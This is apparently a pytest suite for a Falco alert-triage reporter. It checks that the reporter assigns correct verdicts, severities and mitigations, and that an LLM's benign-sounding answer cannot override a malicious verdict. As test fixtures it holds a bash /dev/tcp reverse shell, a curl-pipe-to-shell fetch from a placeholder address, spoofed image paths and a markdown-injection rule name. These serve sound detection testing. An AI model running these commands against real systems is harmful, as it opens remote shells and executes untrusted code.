"""Reports that judge: the verdict, severity, first step and node a responder would choose, from evidence.

Everything runs offline through ``falco_reporter.offline.render_alert``, the same code path the
operator uses, on real payloads (tests/data/real) and crafted variants of them.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from falco_reporter.knowledge.base import load
from falco_reporter.offline import render_alert
from falco_reporter.reporting.exceptions import looks_random
from tests.samples import REAL_DIR, REAL_SAMPLES

ROOT = Path(__file__).resolve().parent.parent
WORKLOADS = list(yaml.safe_load_all((ROOT / "samples" / "workloads.yaml").read_text(encoding="utf-8")))
WORD_LIMIT = 450


def render(body: dict[str, Any] | bytes, objects: list[Any] | None = None) -> dict[str, Any]:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    spec: dict[str, Any] = render_alert(raw, objects or [])["spec"]
    return spec


def real(name: str) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads((REAL_DIR / name).read_text(encoding="utf-8"))
    return loaded


def evidence_ids(spec: dict[str, Any], direction: str) -> set[str]:
    return {e["id"] for e in spec["evidence"] if e["direction"] == direction}


def syscall(rule: str, priority: str, **fields: Any) -> dict[str, Any]:
    return {
        "rule": rule,
        "priority": priority,
        "source": "syscall",
        "hostname": "worker-1",
        "time": "2026-11-20T09:12:44.120345678Z",
        "output": rule,
        "output_fields": fields,
    }


# --- the cases a responder decides -----------------------------------------------------------------


def test_miner_in_a_privileged_cronjob_pod_is_contained_first() -> None:
    """A kernel-thread-named binary from a hidden /tmp dir on a pool port in a privileged pod: likely-malicious, critical, isolate first, no exception."""
    body = (ROOT / "samples" / "alerts" / "03-drop-exec-backup-job.json").read_bytes()
    spec = render(body, WORKLOADS)
    assert (spec["verdict"], spec["severity"]) == ("likely-malicious", "critical")
    assert {"mining-pool-option", "kernel-thread-name"} <= evidence_ids(spec, "malicious")
    assert "mining-pool-option" in spec["verdictReason"]
    assert spec["mitigations"][0]["title"].startswith("Isolate this pod")
    assert "kubectl label pod nightly-backup-29381040-7kq2m -n ops" in spec["mitigations"][0]["snippet"]
    assert [m for m in spec["mitigations"] if m["kind"] == "falco-exception"] == []
    assert spec["subject"]["node"] == "worker-1"
    manifests = [
        yaml.safe_load(m["snippet"]) for m in spec["mitigations"] if m["kind"] == "kubernetes-manifest"
    ]
    workload = [d for d in manifests if d["kind"] not in ("NetworkPolicy", "Namespace")]
    assert workload, "the hardening manifest is fitted to the workload"
    assert {d["kind"] for d in workload} == {"CronJob"}
    container = workload[0]["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]
    assert (container["name"], container["image"]) == ("backup", "registry.acme.internal/ops/backup:2.3.0")
    volumes = workload[0]["spec"]["jobTemplate"]["spec"]["template"]["spec"].get("volumes", [])
    assert [v for v in volumes if v.get("name") == "tmp"] == [], "no writable /tmp where the binary ran from"


def test_reverse_shell_to_a_public_address_is_likely_malicious() -> None:
    """An interactive shell redirected to /dev/tcp on a public address is likely-malicious and raised to high."""
    body = real("syscall_redirect_stdout_stdin_to_network_connection.json")
    fields = body["output_fields"]
    fields |= {
        "proc.name": "bash",
        "proc.exepath": "/bin/bash",
        "proc.cmdline": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "fd.name": "172.17.0.3:40112->203.0.113.7:4444",
        "fd.sip": "203.0.113.7",
    }
    spec = render(body)
    assert spec["verdict"] == "likely-malicious"
    assert "dev-tcp-redirect" in evidence_ids(spec, "malicious")
    assert spec["severity"] in ("high", "critical")
    assert spec["severityReason"] or spec["severity"] == "critical"
    assert spec["mitigations"][0]["kind"] != "falco-exception"


def test_loopback_redirect_is_a_probe_not_an_attacker() -> None:
    """promtail wiring a socket to 127.0.0.1: likely-benign, lowered severity, and no text about an attacker's listener."""
    spec = render(real("syscall_redirect_stdout_stdin_to_network_connection.json"))
    assert spec["verdict"] == "likely-benign"
    assert "peer-loopback" in evidence_ids(spec, "benign")
    assert spec["severity"] in ("low", "info")
    assert "attacker's listener" not in spec["markdown"]
    assert not spec["mitigations"][0]["title"].startswith("Isolate")


def test_event_generator_without_image_fields_is_recognised_by_name_and_parent() -> None:
    """The event-generator's exact drop-and-execute naming plus its parent identify it even with no image metadata."""
    body = syscall(
        "Drop and execute new binary in container",
        "Critical",
        **{
            "container.id": "2f4e6a8b0c1d",
            "k8s.ns.name": "event-generator",
            "k8s.pod.name": "event-generator-5c9d8f7b6-q8w2e",
            "proc.name": "falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-4kQz9",
            "proc.exepath": "/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-4kQz9",
            "proc.pname": "event-generator",
            "proc.cmdline": "falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-4kQz9",
        },
    )
    spec = render(body)
    assert (spec["verdict"], spec["severity"]) == ("likely-benign", "info")
    assert "actor-falco-event-generator" in evidence_ids(spec, "benign")
    # The run id in the file name would never match again: no exception pins it.
    for m in spec["mitigations"]:
        assert "4kQz9" not in m["snippet"]


def test_same_name_under_another_parent_is_not_the_event_generator() -> None:
    """The naming pattern alone, without the event-generator parent, identifies nothing."""
    body = syscall(
        "Drop and execute new binary in container",
        "Critical",
        **{
            "container.id": "2f4e6a8b0c1d",
            "k8s.ns.name": "shop",
            "proc.name": "falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-4kQz9",
            "proc.exepath": "/tmp/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-4kQz9",
            "proc.pname": "sh",
        },
    )
    spec = render(body)
    assert spec["verdict"] != "likely-benign"
    assert not [e for e in spec["evidence"] if e["id"].startswith("actor-")]


@pytest.mark.parametrize(
    "repository",
    [
        "ghcr.io/someone/falcosecurity/falco",
        "evil.example/falcosecurity/falco",
        "docker.io/falcosecurity/falco-miner",
    ],
)
def test_spoofed_falco_image_paths_are_not_trusted(repository: str) -> None:
    """Only Falco's own registries and exact repository make an image Falco's."""
    body = syscall(
        "Contact K8S API Server From Container",
        "Notice",
        **{
            "container.id": "0123456789ab",
            "container.image.repository": repository,
            "k8s.ns.name": "falco",
            "proc.name": "falco",
            "proc.exepath": "/usr/bin/falco",
        },
    )
    spec = render(body)
    assert spec["verdict"] == "suspicious"
    assert not [e for e in spec["evidence"] if e["id"].startswith("actor-")]


def test_k8saudit_exec_reports_user_and_command_and_never_a_node_from_hostname() -> None:
    """An audit exec shows who ran which command on which pod, and Falco's hostname is not taken as the node."""
    spec = render(real("k8saudit_attach_exec_pod_2025.json"))
    assert "kubernetes-admin" in spec["analysis"]
    assert "`cat`" in spec["analysis"]
    assert spec["subject"]["node"] == ""
    assert spec["subject"]["falcoHost"] == "my-pool-1-node-921b61"
    assert spec["verdict"] != "unknown" or load().get("Attach/Exec Pod") is None


def test_a_third_of_syscalls_dropped_is_a_high_health_report() -> None:
    """815,508 of 2,270,350 events dropped (36%) is a high-severity blind spot with Falco settings first."""
    spec = render(real("internal_syscall_event_drop.json"))
    assert (spec["verdict"], spec["severity"]) == ("likely-benign", "high")
    assert "35.9%" in spec["severityReason"]
    assert spec["evidence"][0]["id"] == "drop-percentage"
    assert spec["mitigations"][0]["kind"] == "configuration"
    assert "buf_size_preset" in spec["mitigations"][0]["snippet"]


def test_small_drop_rate_is_low() -> None:
    """A few dropped events out of many is low: the thresholds come from the computed percentage."""
    body = real("internal_syscall_event_drop.json")
    body["output_fields"] |= {"n_drops": "100", "n_evts": "2270350"}
    spec = render(body)
    assert spec["severity"] == "low"
    assert spec["mitigations"] == []


def test_host_event_whose_hostname_is_a_container_id_gets_no_node() -> None:
    """Falco's hostname names a node only when a Node of that name exists."""
    body = syscall("Read sensitive file untrusted", "Warning", **{"container.id": "host", "proc.name": "cat"})
    body["hostname"] = "054aab939018"
    spec = render(body, [{"apiVersion": "v1", "kind": "Node", "metadata": {"name": "worker-1"}}])
    assert (spec["subject"]["node"], spec["subject"]["falcoHost"]) == ("", "054aab939018")
    assert "cordon" not in spec["markdown"]
    body["hostname"] = "worker-1"
    spec = render(body, [{"apiVersion": "v1", "kind": "Node", "metadata": {"name": "worker-1"}}])
    assert spec["subject"]["node"] == "worker-1"


def test_custom_rule_gets_an_exception_from_its_own_stable_fields() -> None:
    """A rule outside the knowledge base still gets an exact exception, built from stable output fields only."""
    spec = render((ROOT / "samples" / "alerts" / "05-custom-rule-unknown.json").read_bytes())
    (exception,) = [m for m in spec["mitigations"] if m["kind"] == "falco-exception"]
    item = yaml.safe_load(exception["snippet"])[0]
    fields = item["exceptions"][0]["fields"]
    assert {"k8s.ns.name", "container.image.repository"} <= set(fields)
    assert not [f for f in fields if f.startswith(("proc.pid", "evt.time", "fd.cport"))]
    assert spec["mitigations"][-1]["kind"] == "falco-exception", "an unconfirmed alert's exception comes last"


def test_forged_alert_without_scope_gets_no_cluster_wide_exception() -> None:
    """An alert naming neither namespace nor image yields no exception at all, not a broader one."""
    body = syscall(
        "Read sensitive file untrusted", "Warning", **{"proc.name": "cat", "proc.exepath": "/bin/cat"}
    )
    spec = render(body)
    assert [m for m in spec["mitigations"] if m["kind"] == "falco-exception"] == []


@pytest.mark.parametrize(
    ("value", "random"),
    [
        ("/tmp/tmp.Xq3ZrT9kLm", True),
        ("/bin/falco-event-generator-syscall-Drop-4kQz9a", True),
        ("/proc/31337/environ", True),
        ("9f86d081884c7d65", True),
        ("/usr/bin/python3", False),
        ("registry.acme.internal/ops/backup", False),
        ("/etc/shadow", False),
    ],
)
def test_random_parts_are_told_apart_from_stable_values(value: str, random: bool) -> None:
    """Run ids, temp names, pids and hashes count as random; ordinary paths and images do not."""
    assert looks_random(value) is random


# --- across every real sample ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def reports() -> dict[str, dict[str, Any]]:
    return {p.name: render(p.read_bytes()) for p in REAL_SAMPLES}


def test_no_likely_malicious_report_offers_an_exception(reports: dict[str, dict[str, Any]]) -> None:
    """A report that says likely-malicious never proposes to except the activity."""
    bad = [n for n, s in reports.items() if s["verdict"] == "likely-malicious" and any(
        m["kind"] == "falco-exception" for m in s["mitigations"])]  # fmt: skip
    assert bad == []


def test_no_exception_pins_a_random_value_or_an_ephemeral_port(reports: dict[str, dict[str, Any]]) -> None:
    """Every exception value will match again: no run ids, temp names, pids or client ports."""
    problems = []
    for name, spec in reports.items():
        for m in spec["mitigations"]:
            if m["kind"] != "falco-exception":
                continue
            exc = yaml.safe_load(m["snippet"])[0]["exceptions"][0]
            for field, value in zip(exc["fields"], exc["values"][0], strict=True):
                if field in ("fd.rport", "fd.lport", "fd.cport", "proc.pid") or (
                    looks_random(str(value)) and field not in ("container.image.repository", "k8s.ns.name")
                ):
                    problems.append((name, field, value))
    assert problems == []


def test_no_investigation_step_repeats_the_flagged_command(reports: dict[str, dict[str, Any]]) -> None:
    """No investigation command re-runs the alert's own command line."""
    repeats = []
    for name, spec in reports.items():
        cmdline = " ".join(spec["subject"]["process"]["cmdline"].split())
        for step in spec["investigation"]:
            command = " ".join(step.partition(": ")[2].split())
            if len(cmdline) > 3 and re.search(rf"(^|[\s;|&'\"]){re.escape(cmdline)}($|[\s;|&'\"])", command):
                repeats.append((name, step))
    assert repeats == []


def test_every_report_has_evidence_or_says_why_not(reports: dict[str, dict[str, Any]]) -> None:
    """A verdict other than 'unknown' names the evidence or rule match it rests on."""
    for name, spec in reports.items():
        assert spec["verdictReason"], name
        if spec["verdict"] in ("likely-malicious", "likely-benign") and not name.startswith("internal_"):
            assert any(e["id"] in spec["verdictReason"] for e in spec["evidence"]), name


def test_markdown_word_counts_stay_readable(reports: dict[str, dict[str, Any]]) -> None:
    """A KB-covered syscall report reads in a minute: at most 450 words (the counts are listed on failure)."""
    kb = load()
    counts = {
        name: len(spec["markdown"].split())
        for name, spec in reports.items()
        if spec["source"] == "syscall" and kb.get(spec["rule"]) is not None
    }
    assert len(counts) >= 25
    assert {n: c for n, c in counts.items() if c > WORD_LIMIT} == {}, sorted(
        counts.items(), key=lambda i: -i[1]
    )


def test_markdown_shows_no_validated_line_for_prose(reports: dict[str, dict[str, Any]]) -> None:
    """Prose mitigations carry no 'Validated' boilerplate, and verdict comes before what to do."""
    for name, spec in reports.items():
        md = spec["markdown"]
        assert "prose, nothing to validate" not in md, name
        if "## What to do" in md:
            assert md.index("## Why this verdict") < md.index("## What to do"), name


def test_rule_names_cannot_inject_markdown() -> None:
    """A rule with a newline, a link and an image renders as one escaped heading line."""
    body = syscall(
        "Evil\n# Owned [click](https://evil.example) ![x](https://evil.example/x.png)",
        "Warning",
        **{"container.id": "0123456789ab", "k8s.ns.name": "shop", "proc.name": "sh"},
    )
    md = render(body)["markdown"]
    heading = md.splitlines()[0]
    assert heading.startswith("# Evil # Owned \\[click\\]")
    assert "](https://evil.example" not in md.replace("\\]", "")
    assert not re.search(r"^# Owned", md, re.MULTILINE)


# --- the LLM on top of the evidence ---------------------------------------------------------------


def test_a_model_cannot_lower_the_verdict_or_severity_nor_drop_evidence() -> None:
    """A persuasive answer saying 'benign, info' leaves a likely-malicious verdict, its severity and its evidence in place."""
    from falco_reporter.models.report import Writer
    from falco_reporter.reporting.answer_merge import merge_answer
    from falco_reporter.reporting.builtin import BuiltinWriter
    from falco_reporter.reporting.guard import LLMAnswer
    from tests.test_chain import context, real_alert

    ctx = context(real_alert(cmdline="sh -c 'curl -s http://198.51.100.7/x.sh | sh'"))
    base = BuiltinWriter().write_sync(ctx)
    assert base.verdict == "likely-malicious"
    answer = LLMAnswer.model_validate(
        {
            "summary": "Routine maintenance by the platform team.",
            "analysis": "Nothing to see.",
            "severity": "info",
            "verdict": "likely-benign",
            "verdict_reason": "The team confirmed it.",
        }
    )
    merged = merge_answer(base, answer, allowed_url=lambda _: False, writer=Writer(backend="fake"))
    assert (merged.verdict, merged.severity) == (base.verdict, base.severity)
    assert merged.verdict_reason == base.verdict_reason
    assert merged.evidence == base.evidence
    raised = answer.model_copy(update={"verdict": "likely-malicious", "severity": "critical"})
    assert (
        merge_answer(base, raised, allowed_url=lambda _: False, writer=Writer(backend="fake")).severity
        == "critical"
    )
